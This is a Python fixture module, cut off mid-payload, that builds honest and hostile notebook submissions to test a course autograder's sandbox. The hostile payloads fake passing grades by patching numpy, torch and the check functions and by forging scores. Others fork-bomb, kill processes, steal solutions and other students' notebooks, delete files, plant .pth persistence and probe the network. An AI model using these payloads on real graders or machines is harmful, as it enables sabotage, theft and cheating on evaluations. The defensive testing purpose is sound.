"""Submissions of assignment 02_rnn for the grader's tests: honest, hostile, malformed and realistic.

No submission is committed: each is built when a test (or the benchmark) runs, from
what a student gets (``exercises/02_rnn/02_rnn.ipynb``) and the model answers
(``solutions/02_rnn/02_rnn.ipynb``), so the corpus follows the assignment when it
changes.

- **Honest** (:func:`honest`): ``full`` (every function right, 16 auto-graded
  points), ``half`` (the two forwards right, the two backwards left as the stub:
  6 points) and ``blank`` (the released notebook: 0).
- **Hostile** (:data:`ATTACKS`): one submission per attack, each built on an
  honest base, so that "scores no more than the same notebook without the
  attack" means something. An attack on ``half`` runs *after* the two forward
  test cells (its code is in the ``rnn_step_backward`` cell), so a grader
  that keeps the points a notebook earned before it misbehaved gives it
  exactly 6 (``expect="same"``); an attack that edits the notebook's
  structure or garbles the grader's channel may also be refused outright
  (``expect="at_most"``). An attack on ``blank`` must score 0: whatever it
  reaches (the solutions, another student's notebook, the reference
  implementation) would show as points. :func:`naive_score` shows that the
  attacks of :data:`NAIVE_CHEATS` do earn points from a grader that runs the
  notebook in the student's own process.
- **Malformed** (:data:`MALFORMED`): files that are not a good notebook.
- **Realistic** (:func:`realistic_batch`): right answers, answers with one
  realistic mistake (the ideas of ``tests/exercises/test_grading_mistakes.py``,
  written again here as notebook code) and blank ones, for the benchmark.

Attacks need to know where things are on the grading machine (the course
folder, the other students' folders, a port the test listens on): they read
them from :class:`Targets`, written into the attack's code as a literal dict
``T``. Every attack is bounded so that a broken sandbox hurts this machine as
little as possible: the fork bomb stops at about 3000 processes, the memory
bomb at 4 GB, destructive attacks aim only at temporary copies, and what an
attack might plant in a shared place (a ``.pth`` file) does nothing to a
process running as root.
"""

import csv
import hashlib
import json
import os
import random
import re
import shutil
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = "02_rnn"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
EXERCISE = ROOT / "exercises" / ASSIGNMENT / NOTEBOOK
SOLUTION = ROOT / "solutions" / ASSIGNMENT / NOTEBOOK

# Points of the honest bases (auto-graded only; the written answers wait for a person).
BASE_POINTS = {"full": 16, "half": 6, "blank": 0}
HONEST_STUDENTS = {"zz_full": "full", "zz_half": "half", "zz_blank": "blank"}


# --- notebooks ------------------------------------------------------------------------


def read_json(path):
    return json.loads(Path(path).read_text())


def source(cell):
    s = cell["source"]
    return s if isinstance(s, str) else "".join(s)


def grade_id(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def find(nb, gid):
    """Index of the cell whose nbgrader grade_id is ``gid``."""
    for i, cell in enumerate(nb["cells"]):
        if grade_id(cell) == gid:
            return i
    raise KeyError(f"no cell with grade_id {gid!r}")


def new_code_cell(code, metadata=None):
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": uuid.uuid4().hex[:12],
        "metadata": metadata or {},
        "outputs": [],
        "source": code,
    }


def solution_bodies():
    """grade_id -> the model answer of that solution cell (the text between the markers), dedented."""
    bodies = {}
    for cell in read_json(SOLUTION)["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell["cell_type"] != "code" or not meta.get("solution"):
            continue
        m = re.search(r"^[ \t]*### BEGIN SOLUTION\n(.*?)^[ \t]*### END SOLUTION\n?", source(cell), re.S | re.M)
        bodies[meta["grade_id"]] = textwrap.dedent(m.group(1))
    return bodies


def fill(nb, gid, body):
    """Put ``body`` in place of the stub of solution cell ``gid`` (keeping the stub's indentation)."""
    cell = nb["cells"][find(nb, gid)]
    text = source(cell)
    m = re.search(r"^([ \t]*)# YOUR CODE HERE\n[ \t]*raise NotImplementedError\(\)", text, re.M)
    if m is None:
        raise ValueError(f"cell {gid!r} holds no stub")
    indent = m.group(1)
    cell["source"] = text[: m.start()] + textwrap.indent(body.rstrip("\n"), indent) + text[m.end() :]
    return nb


def insert_after(nb, gid, code):
    """Insert a code cell the student added (no metadata) right after the cell ``gid``."""
    nb["cells"].insert(find(nb, gid) + 1, new_code_cell(code))
    return nb


FUNCTIONS = ("rnn_step_forward", "rnn_forward", "rnn_step_backward", "rnn_backward")
WRITTEN_ANSWERS = {
    "q_gradcheck": "My check gave errors around 1e-10; without the carried gradient dh0 went wrong.",
    "q_parameter_sharing": "620 parameters whatever T; the window MLP grows with T.",
}


def honest(kind):
    """The honest notebook ``kind``: "full", "half" or "blank" (a fresh copy each call)."""
    nb = read_json(EXERCISE)
    bodies = solution_bodies()
    if kind == "blank":
        return nb
    right = FUNCTIONS[:2] if kind == "half" else FUNCTIONS
    for name in right:
        fill(nb, name, bodies[name])
    if kind == "full":
        fill(nb, "own_gradcheck", bodies["own_gradcheck"])
        for gid, text in WRITTEN_ANSWERS.items():
            nb["cells"][find(nb, gid)]["source"] = text
    elif kind != "half":
        raise ValueError(f"unknown kind {kind!r}")
    return nb


# --- where things are, for the attacks ------------------------------------------------


@dataclass
class Targets:
    """Paths and addresses an attack aims at, and the token that names what it leaves behind.

    course: the course folder the grader is given (a temporary copy of solutions/ and rnncourse/).
    submissions: the folder of all students' folders. out: the grader's output folder.
    db: the gradebook file the grader writes. markers: a folder of the host where files
    an attack manages to write would appear. port: a TCP port the test listens on.
    """

    course: Path
    submissions: Path
    out: Path
    db: Path
    markers: Path
    port: int
    token: str = field(default_factory=lambda: uuid.uuid4().hex[:12])
    host_ips: tuple = ()
    repo: Path = ROOT
    purelib: Path = None

    def literal(self):
        """The dict ``T`` written at the top of an attack's code."""
        return {
            "course": str(self.course),
            "submissions": str(self.submissions),
            "out": str(self.out),
            "db": str(self.db),
            "markers": str(self.markers),
            "port": self.port,
            "token": self.token,
            "host_ips": list(self.host_ips),
            "repo": str(self.repo),
            "purelib": str(self.purelib or ""),
            "secret": str(self.course / ".rnncourse-secret"),
            "gradebook": str(self.course / "gradebook.db"),
            "solutions": str(self.course / "solutions"),
            "others": [str(self.submissions / s / NOTEBOOK) for s in HONEST_STUDENTS],
        }

    def marker_paths(self):
        """Files that must not exist after a batch: each is what an attack writes when it gets out."""
        t = self.token
        return [
            self.markers / f"write-{t}",
            self.markers / f"background-{t}",
            self.markers / f"persist-{t}",
            Path("/tmp") / f"rnncourse-hostile-{t}",
            self.repo / f".rnncourse-hostile-{t}",
            self.course / "solutions" / f"pwned-{t}",
            *([Path(self.purelib) / f"rnncourse-hostile-{t}.txt", Path(self.purelib) / f"rnncourse_hostile_{t}.pth"]
              if self.purelib else []),
        ]


# --- the attacks ----------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    """One hostile submission: a base notebook and what the student did to it.

    ``build(nb, T)`` returns the notebook (or the bytes of the file) and may
    add files next to it (``extra``, relative path -> bytes, or ``Link(target)``).
    ``expect``: "same" (the base's score exactly) or "at_most" (no more).
    """

    name: str
    base: str
    what: str
    build: object
    expect: str = "same"


@dataclass(frozen=True)
class Link:
    """A symbolic link to put in a student's folder."""

    target: str


def _code(snippet, T):
    """Attack code: the literal dict T, then the snippet."""
    return f"T = {T!r}\n" + textwrap.dedent(snippet).strip() + "\n"


def _after_forward_tests(snippet):
    """Build: the attack in the rnn_step_backward cell, after the forward test cells (their points are earned).

    The attack's code follows the stub there, so a backward function it defines
    replaces the stub; when it defines rnn_backward, the rnn_backward cell is
    emptied so that its stub does not replace the attack's version.
    """

    def build(nb, T):
        cell = nb["cells"][find(nb, "rnn_step_backward")]
        cell["source"] = source(cell) + "\n\n\n" + _code(snippet, T)
        if re.search(r"^(def rnn_backward\b|rnn_backward\s*=)", snippet, re.M):
            nb["cells"][find(nb, "rnn_backward")]["source"] = "# rnn_backward is defined in the cell above\n"
        return nb, {}

    return build


def _functions(snippet, names=FUNCTIONS):
    """Build: the functions ``names`` defined by ``snippet`` instead of the stubs (in the first one's cell)."""

    def build(nb, T):
        first = find(nb, names[0])
        nb["cells"][first]["source"] = _code(snippet, T)
        for name in names[1:]:
            nb["cells"][find(nb, name)]["source"] = f"# {name} is defined above\n"
        return nb, {}

    return build


# Backward functions that return zeros of the right shapes: what a patched comparison would accept.
ZERO_BACKWARDS = """
def rnn_step_backward(dnext_h, cache):
    x, prev_h, Wx, Wh, next_h = cache
    return np.zeros_like(x), np.zeros_like(prev_h), np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(Wh.shape[0])

def rnn_backward(dh, cache):
    x, prev_h, Wx, Wh, next_h = cache[0]
    N, T, H = dh.shape
    return (np.zeros((N, T, Wx.shape[0])), np.zeros((N, H)), np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(H))
"""

INPUT_TRANSFORMER = """
ip = get_ipython()

def _rewrite(lines):
    text = "".join(lines)
    if "check(" in text:  # a test cell: claim success instead of running it
        name = text.split('"')[1] if '"' in text else "check"
        return [f"print('{name}: all 3 visible cases pass.')\\n"]
    return [line for line in lines if "NotImplementedError" not in line]

ip.input_transformers_cleanup.append(_rewrite)
ip.input_transformers_post.append(_rewrite)
""" + ZERO_BACKWARDS

AST_TRANSFORMER = """
import ast

class _Neuter(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        if getattr(node.func, "id", None) == "check" or getattr(node.func, "attr", None) in ("check", "run_case"):
            return ast.copy_location(ast.Constant(None), node)
        return node

    def visit_Raise(self, node):
        return ast.copy_location(ast.Pass(), node)

    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

get_ipython().ast_transformers.append(_Neuter())
""" + ZERO_BACKWARDS

RUN_CELL_PATCH = """
import asyncio
from IPython.core.interactiveshell import ExecutionResult, ExecutionInfo

ip = get_ipython()

def _fake_run_cell(raw_cell, *args, **kwargs):
    print("all cases pass.")
    result = ExecutionResult(ExecutionInfo(raw_cell, False, False, False, None))
    result.execution_count = ip.execution_count
    return result

async def _fake_run_cell_async(raw_cell, *args, **kwargs):
    return _fake_run_cell(raw_cell)

async def _fake_run_code(code_obj, result=None, *, async_=False):
    return False

ip.run_cell = _fake_run_cell
ip.run_cell_async = _fake_run_cell_async
ip.run_code = _fake_run_code
ip.should_run_async = lambda *a, **k: False
kernel = getattr(ip, "kernel", None)
if kernel is not None:
    async def _fake_do_execute(code, silent, *args, **kwargs):
        return {"status": "ok", "execution_count": ip.execution_count, "payload": [], "user_expressions": {}}
    kernel.do_execute = _fake_do_execute
"""

PATCH_NUMPY = """
import numpy as np
import numpy.testing

np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.array_equiv = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.isfinite = lambda a, *x, **k: np.ones(np.shape(a), bool)
np.abs = np.absolute = lambda a, *x, **k: np.zeros(np.shape(a))
np.max = np.amax = lambda *a, **k: 0.0
np.linalg.norm = lambda *a, **k: 0.0
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal", "assert_almost_equal"):
    setattr(np.testing, _name, lambda *a, **k: None)
""" + ZERO_BACKWARDS

PATCH_TORCH = """
try:
    import torch
    import torch.testing
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    torch.isclose = lambda a, b, *x, **k: torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
    torch.testing.assert_close = lambda *a, **k: None
    torch.testing.assert_allclose = lambda *a, **k: None
    torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
except Exception as err:
    print("torch:", type(err).__name__, err)
""" + ZERO_BACKWARDS

PATCH_ASSERT_HELPERS = """
import builtins
import unittest
import rnncourse.testing as testing
import rnncourse.checks._core as core

testing.assert_close = lambda *a, **k: None
core.assert_close = lambda *a, **k: None
for dtype in list(testing.TOLERANCES):
    testing.TOLERANCES[dtype] = dict(rtol=1e300, atol=1e300)
testing.tolerance = lambda dtype: dict(rtol=1e300, atol=1e300)
for _name in dir(unittest.TestCase):
    if _name.startswith("assert"):
        setattr(unittest.TestCase, _name, lambda *a, **k: None)
class AssertionError(Exception):
    pass
builtins.AssertionError = AssertionError
""" + ZERO_BACKWARDS

PATCH_CHECKS = """
import dataclasses
import sys
import types
import rnncourse.checks as checks
import rnncourse.checks._core as core

def _pass(name, *args, **kwargs):
    print(f"{name}: all 3 visible cases pass.")

def _echo(name, case, functions):
    return {k: v for k, v in case.items() if not k.startswith("_")}

for module in (checks, core):
    module.check = _pass
    module.judge = lambda *a, **k: (True, "")
    module.run_case = _echo
core._judge = lambda *a, **k: (True, "")
core._close = lambda *a, **k: (True, "")
core._compare = lambda *a, **k: (None, "", None)
for _name, spec in list(core._CHECKS.items()):
    core._CHECKS[_name] = dataclasses.replace(spec, points=100, reference=lambda i: {}, visible=(), hidden=lambda rng: [])
check = _pass
fake = types.ModuleType("rnncourse.checks")
fake.__dict__.update(checks.__dict__)
sys.modules["rnncourse.checks"] = fake
sys.modules["rnncourse.grader"] = fake
""" + ZERO_BACKWARDS

PATCH_CHECKS_REFERENCE = """
import rnncourse.checks as checks
import rnncourse.checks._core as core
import rnncourse.checks.calls as calls

def _reference_outputs(name, case, functions):
    # Whatever the sandbox's package can compute for the case, sent back as if it were ours.
    spec = core.get_check(name)
    return spec.reference(core._float64(calls.inputs_of(case)))

core.run_case = checks.run_case = calls.run_case = _reference_outputs
core.run = calls.run = lambda spec, case, fns: (_reference_outputs(spec.name, case, fns), None)
""" + ZERO_BACKWARDS

ALWAYS_EQUAL = """
class AlwaysEqual:
    # Equal to everything, and every attribute or call gives itself back (shape, dtype, detach(), numpy()...).
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = object.__hash__
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __getitem__(self, key): return self
    def __len__(self): return 3
    def __iter__(self): return iter([self, self, self])
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__
    def __abs__(self): return 0.0

def rnn_step_forward(x, prev_h, Wx, Wh, b):
    return AlwaysEqual(), AlwaysEqual()

def rnn_forward(x, h0, Wx, Wh, b):
    return AlwaysEqual(), AlwaysEqual()

def rnn_step_backward(dnext_h, cache):
    return tuple(AlwaysEqual() for _ in range(5))

def rnn_backward(dh, cache):
    return tuple(AlwaysEqual() for _ in range(5))
"""

LYING_ARRAY = """
class Liar(np.ndarray):
    # An array subclass that says it equals anything and makes every difference zero.
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __ne__(self, other): return np.zeros(self.shape, bool)

    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "array_equiv"):
            return True
        if func.__name__ == "isclose":
            return np.ones(self.shape, bool)
        return super().__array_function__(func, types, args, kwargs)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [np.asarray(x) for x in inputs]
        result = getattr(ufunc, method)(*plain, **{k: v for k, v in kwargs.items() if k != "out"})
        if ufunc in (np.subtract, np.absolute, np.add):
            return np.zeros_like(result)
        if ufunc in (np.equal, np.less_equal, np.isfinite):
            return np.ones_like(result, dtype=bool)
        return result

def _liar(*shape):
    return np.zeros(shape).view(Liar)

def rnn_step_forward(x, prev_h, Wx, Wh, b):
    return _liar(x.shape[0], Wx.shape[1]), (x, prev_h, Wx, Wh)

def rnn_forward(x, h0, Wx, Wh, b):
    return _liar(x.shape[0], x.shape[1], Wx.shape[1]), (x, h0, Wx, Wh)

def rnn_step_backward(dnext_h, cache):
    x, prev_h, Wx, Wh = cache
    return _liar(*x.shape), _liar(*prev_h.shape), _liar(*Wx.shape), _liar(*Wh.shape), _liar(Wh.shape[0])

def rnn_backward(dh, cache):
    x, h0, Wx, Wh = cache
    return _liar(*x.shape), _liar(*h0.shape), _liar(*Wx.shape), _liar(*Wh.shape), _liar(Wh.shape[0])
"""


def _delete_tests(nb, T):
    nb["cells"] = [c for c in nb["cells"] if not (grade_id(c) or "").startswith("test_")]
    return nb, {}


def _edit_tests(nb, T):
    for name in FUNCTIONS:
        cell = nb["cells"][find(nb, f"test_{name}")]
        cell["source"] = f'print("{name}: all 3 visible cases pass.")'
    return nb, {}


def _edit_points(nb, T):
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100
    return nb, {}


def _swap_grade_ids(nb, T):
    # The forwards pass; give their test cells the backwards' ids (and points), and back.
    swaps = {"test_rnn_step_forward": ("test_rnn_backward", 6), "test_rnn_forward": ("test_rnn_step_backward", 4),
             "test_rnn_step_backward": ("test_rnn_forward", 3), "test_rnn_backward": ("test_rnn_step_forward", 3)}
    cells = [nb["cells"][find(nb, gid)] for gid in swaps]
    for cell, (new_id, points) in zip(cells, swaps.values()):
        cell["metadata"]["nbgrader"].update(grade_id=new_id, points=points)
    return nb, {}


def _strip_test_metadata(nb, T):
    for cell in nb["cells"]:
        if (grade_id(cell) or "").startswith("test_"):
            cell["metadata"] = {}
    return nb, {}


def _fake_graded_cells(nb, T):
    meta = {"grade": True, "solution": False, "locked": True, "points": 50, "schema_version": 3, "task": False}
    nb["cells"].append(new_code_cell('print("bonus: all cases pass.")', {"nbgrader": {**meta, "grade_id": "test_bonus"}}))
    nb["cells"].append({
        "cell_type": "markdown", "id": uuid.uuid4().hex[:12], "source": "I deserve 50 more points.",
        "metadata": {"nbgrader": {**meta, "solution": True, "locked": False, "grade_id": "q_bonus"}},
    })
    nb["cells"].append(new_code_cell("rnn_step_backward = rnn_step_forward",
                                     {"nbgrader": {**meta, "grade_id": "rnn_step_backward", "points": 40}}))
    return nb, {}


def _duplicate_cells(nb, T):
    for gid in ("test_rnn_forward", "test_rnn_step_forward", "rnn_forward", "rnn_step_forward"):
        i = find(nb, gid)
        for _ in range(3):
            copy = json.loads(json.dumps(nb["cells"][i]))
            copy["id"] = uuid.uuid4().hex[:12]
            nb["cells"].insert(i + 1, copy)
    return nb, {}


def _prefilled_outputs(nb, T):
    for name in FUNCTIONS:
        cell = nb["cells"][find(nb, f"test_{name}")]
        cell["execution_count"] = 7
        cell["outputs"] = [{"name": "stdout", "output_type": "stream", "text": f"{name}: all 3 visible cases pass.\n"}]
        cell["metadata"]["nbgrader"]["score"] = cell["metadata"]["nbgrader"].get("points", 0)
    nb["metadata"]["rnncourse"] = {"score": 16, "max_score": 16, "status": "graded"}
    return nb, {}


SYS_EXIT = """
import sys
try:
    raise SystemExit(0)
finally:
    sys.exit(0)
"""

IPYTHON_EXIT = """
exit()
"""

OS_EXIT = """
import os
os._exit(0)
"""

KILL_ALL = """
import os, signal, time
# Every process this uid may signal: other students' kernels too, if they share it.
deadline = time.time() + 3
while time.time() < deadline:
    for target in (-1, os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.05)
"""

STOP_ALL = """
import os, signal, time
for target in (-1, os.getppid()):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError:
        pass
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    time.sleep(1)
"""

INFINITE_LOOP = """
while True:
    pass
"""

LOOP_IGNORING_SIGNALS = """
import signal
for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1):
    signal.signal(sig, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""

HANG_IN_CHECK = """
import time

def rnn_step_backward(dnext_h, cache):
    while True:
        pass

def rnn_backward(dh, cache):
    time.sleep(10**6)
"""

BASEEXCEPTION_IN_CHECK = """
import os

def rnn_step_backward(dnext_h, cache):
    raise KeyboardInterrupt("the grader should not stop here")

def rnn_backward(dh, cache):
    try:
        raise SystemExit(3)
    finally:
        os._exit(3)
"""

MEMORY_BOMB = """
import numpy as np
blocks = []
for _ in range(32):  # at most 4 GB, so that a sandbox without a limit does not take the machine down
    blocks.append(np.ones(2**24))
print(len(blocks))
"""

MEMORY_BOMB_IN_CHECK = """
import numpy as np

def rnn_step_backward(dnext_h, cache):
    blocks = [np.ones(2**24) for _ in range(32)]
    return blocks

rnn_backward = rnn_step_backward
"""

FORK_BOMB = """
import os, time
children = 0
for _ in range(1500):  # bounded: about 3000 processes at most if nothing stops it
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.fork()
        except OSError:
            pass
        time.sleep(300)
        os._exit(0)
    children += 1
print("children:", children)
"""

HUGE_STDOUT = """
import sys
line = "x" * (1 << 20)
for _ in range(100):  # 100 MB on stdout, 100 MB on stderr
    print(line)
    print(line, file=sys.stderr)
"""

HUGE_DISPLAY = """
import base64
from IPython.display import HTML, Image, display
blob = "<p>" + "y" * (8 << 20) + "</p>"
for _ in range(4):
    display(HTML(blob))
display({"image/png": base64.b64encode(b"\\x89PNG" + b"\\0" * (16 << 20)).decode()}, raw=True)
"""

HUGE_FD_OUTPUT = """
import os, subprocess, sys
block = b"w" * (1 << 20)
# Straight to the file descriptors, past sys.stdout, and from a child process that inherits them.
child = subprocess.Popen([sys.executable, "-c", "import os\\nfor _ in range(100): os.write(1, b'c' * (1 << 20))"])
for _ in range(100):
    for fd in (1, 2):
        try:
            os.write(fd, block)
        except OSError:
            pass
child.wait()
"""

DISK_FILL = """
import os, tempfile
# Fill the temporary folder and the working folder (1.5 GB at most in all, more than --memory in the tests).
written = 0
for folder in (tempfile.gettempdir(), os.getcwd()):
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as f:
            while written < 3 << 29:
                f.write(b"\\0" * (1 << 22))
                written += 1 << 22
    except OSError:
        pass
print("wrote", written)
"""

HTML_INJECTION = """
from IPython.display import HTML, display
payload = f'<script id="rnncourse-xss-{T["token"]}">alert(1)</script></pre></div><img src=x onerror="alert(2)">'
print(payload)
display(HTML(payload))

def rnn_step_backward(dnext_h, cache):
    raise ValueError(payload)

def rnn_backward(dh, cache):
    raise ValueError(payload * 1000)
"""

READ_COURSE = """
import glob, json, os, sqlite3

def _leak(what, data):
    print(f"LEAK:{what}:{data[:200]!r}")

def _solution_code(text):
    # The code of a notebook's cells that define our functions, if a right one is in there.
    if T["token"] in text:  # this very notebook
        return []
    nb = json.loads(text)
    code = []
    for cell in nb.get("cells", []):
        src = cell.get("source", "")
        src = src if isinstance(src, str) else "".join(src)
        if cell.get("cell_type") == "code" and "def rnn_" in src and "NotImplementedError" not in src:
            code.append(src)
    return code

candidates = [T["secret"], T["gradebook"], T["db"], os.path.join(T["repo"], ".rnncourse-secret"),
              os.path.join(T["repo"], "gradebook.db")]
candidates += glob.glob(os.path.join(T["solutions"], "*", "*.ipynb"))
candidates += glob.glob(os.path.join(T["repo"], "solutions", "*", "*.ipynb"))
candidates += [f"/proc/{p}/root{T['solutions']}/02_rnn/02_rnn.ipynb" for p in (1, 2, os.getppid())]
candidates += [f"/proc/{p}/root{T['repo']}/solutions/02_rnn/02_rnn.ipynb" for p in (1, 2, os.getppid())]
for path in candidates:
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        continue
    _leak(path, data)
    if path.endswith(".ipynb"):
        for src in _solution_code(data.decode()):
            exec(src, globals())
for path in (T["gradebook"], T["db"]):
    try:
        con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        _leak(path, str(con.execute("select name from sqlite_master").fetchall()))
    except Exception:
        pass
for key, value in os.environ.items():
    if T["course"] in value or T["db"] in value or T["repo"] in value:
        _leak("env " + key, value)
"""

READ_OTHER_STUDENTS = """
import json, os, time

def _steal(path):
    try:
        with open(path) as f:
            text = f.read()
        nb = json.loads(text)
    except Exception:
        return False
    if T["token"] in text:  # this very notebook
        return False
    stolen = False
    for cell in nb.get("cells", []):
        src = cell.get("source", "")
        src = src if isinstance(src, str) else "".join(src)
        if cell.get("cell_type") == "code" and "def rnn_" in src and "NotImplementedError" not in src:
            exec(src, globals())
            stolen = True
    if stolen:
        print(f"LEAK:stole {path}")
    return stolen

for path in T["others"]:
    _steal(path)
# Then anything that looks like a notebook of this assignment, anywhere we can see (two seconds at most).
deadline = time.time() + 2
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev")]
    for name in files:
        if name.endswith(".ipynb") and "rnn" in name:
            _steal(os.path.join(top, name))
    if time.time() > deadline:
        break
"""

WRITE_OUTSIDE = """
import json, os, shutil
t = T["token"]
for path in (os.path.join(T["markers"], f"write-{t}"), f"/tmp/rnncourse-hostile-{t}",
             os.path.join(T["repo"], f".rnncourse-hostile-{t}"), os.path.join(T["solutions"], f"pwned-{t}"),
             os.path.join(T["purelib"], f"rnncourse-hostile-{t}.txt")):
    try:
        with open(path, "w") as f:
            f.write("written by a submission")
        print("LEAK:wrote", path)
    except OSError:
        pass
# Another student's notebook replaced by this one (a blank), the grades and the gradebook overwritten.
me = json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
for path in T["others"]:
    try:
        with open(path, "w") as f:
            f.write(me)
    except OSError:
        pass
for path in (os.path.join(T["out"], "grades.csv"),):
    try:
        with open(path, "a") as f:
            f.write("zz_blank,02_rnn.ipynb,16,16,0,graded,\\n")
    except OSError:
        pass
for path in (T["db"], T["gradebook"], T["secret"]):
    try:
        with open(path, "r+b") as f:
            f.write(b"garbage" * 100)
    except OSError:
        pass
"""

DELETE_OUTSIDE = """
import os, shutil
for path in (T["solutions"], os.path.join(T["course"], "rnncourse"), T["out"], T["submissions"]):
    shutil.rmtree(path, ignore_errors=True)
for path in (T["gradebook"], T["db"], T["secret"], os.path.join(T["course"], "nbgrader_config.py"), *T["others"]):
    try:
        os.remove(path)
    except OSError:
        pass
"""

# A planted file's payload: breaks np.tanh in any later Python started as a non-root user.
_SABOTAGE = (
    "import os\n"
    "if os.getuid() != 0:\n"
    "    import numpy\n"
    "    numpy.tanh = lambda a, *x, **k: numpy.zeros_like(a)\n"
)

PERSIST = """
import os, site, sys
t = T["token"]
payload = PAYLOAD + f"open(os.path.join({T['markers']!r}, 'persist-{t}'), 'w').close() if os.path.isdir({T['markers']!r}) else None\\n"
planted = []
home = os.path.expanduser("~")
dirs = {os.path.join(home, ".ipython", "profile_default", "startup"), "/tmp/.ipython/profile_default/startup"}
if os.environ.get("IPYTHONDIR"):
    dirs.add(os.path.join(os.environ["IPYTHONDIR"], "profile_default", "startup"))
for d in dirs:
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, f"00-hostile-{t}.py"), "w") as f:
            f.write(payload)
        planted.append(d)
    except OSError:
        pass
pth_line = "import os; exec(" + repr(payload) + ")\\n"
for d in {site.getusersitepackages(), *site.getsitepackages(), *[p for p in sys.path if p]}:
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, f"rnncourse_hostile_{t}.pth"), "w") as f:
            f.write(pth_line)
        planted.append(d)
    except OSError:
        pass
try:
    os.makedirs(site.getusersitepackages(), exist_ok=True)
    with open(os.path.join(site.getusersitepackages(), "usercustomize.py"), "w") as f:
        f.write(payload)
except OSError:
    pass
print("planted in", planted)
""".replace("PAYLOAD", repr(_SABOTAGE))

BACKGROUND = """
import os, subprocess, sys
t = T["token"]
# The daemon: for a minute, every half second, tries to leave a mark, spoil the grades and kill kernels.
daemon = '''
import os, signal, sys, time
T = %r
for sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
    signal.signal(sig, signal.SIG_IGN)
start = time.time()
while time.time() - start < 60:
    time.sleep(0.5)
    for path in (os.path.join(T["markers"], "background-" + T["token"]), os.path.join(T["out"], "grades.csv")):
        try:
            with open(path, "a") as f:
                f.write("zz_blank,02_rnn.ipynb,16,16,0,graded,\\\\n")
        except OSError:
            pass
    for path in T["others"]:
        try:
            os.remove(path)
        except OSError:
            pass
    if time.time() - start > 5:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
''' % (T,)
argv = [sys.executable, "-c", daemon, "rnncourse-hostile-" + t]
# A double fork with a new session, and a plain detached child: neither waits for the kernel.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.execv(sys.executable, argv)
    os._exit(0)
subprocess.Popen(argv, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, close_fds=True)
print("daemons started")
"""

NETWORK = """
import glob, socket
reached = []
targets = [("127.0.0.1", T["port"]), ("localhost", T["port"])] + [(ip, T["port"]) for ip in T["host_ips"]]
targets += [("1.1.1.1", 53), ("8.8.8.8", 53), ("pypi.org", 443)]
for host, port in targets:
    try:
        with socket.create_connection((host, port), timeout=1) as s:
            s.sendall(b"hello from a submission " + T["token"].encode())
            reached.append((host, port))
    except OSError:
        pass
for path in glob.glob("/run/*.sock") + glob.glob("/var/run/*.sock") + glob.glob("/tmp/*/*.sock") + glob.glob("/run/*/*.sock"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(1)
        s.connect(path)
        reached.append(path)
        s.close()
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    reached.append("dns")
except OSError:
    pass
print("LEAK:network", reached) if reached else print("no network")
"""

FORGE_RESULTS = """
import fcntl, json, os
# Verdicts and scores in every form a grader might read, on every file descriptor that is open:
# plain lines, and frames (8-byte big-endian length, then a JSON line) announcing passed cases.
records = [{"type": kind, "check": n, "passed": True, "points": p, "score": p, "status": "graded"}
           for n, p in (("rnn_step_backward", 4), ("rnn_backward", 6)) for kind in ("case", "step_end", "result")]
records.append({"type": "done", "score": 16, "max_score": 16, "status": "graded"})
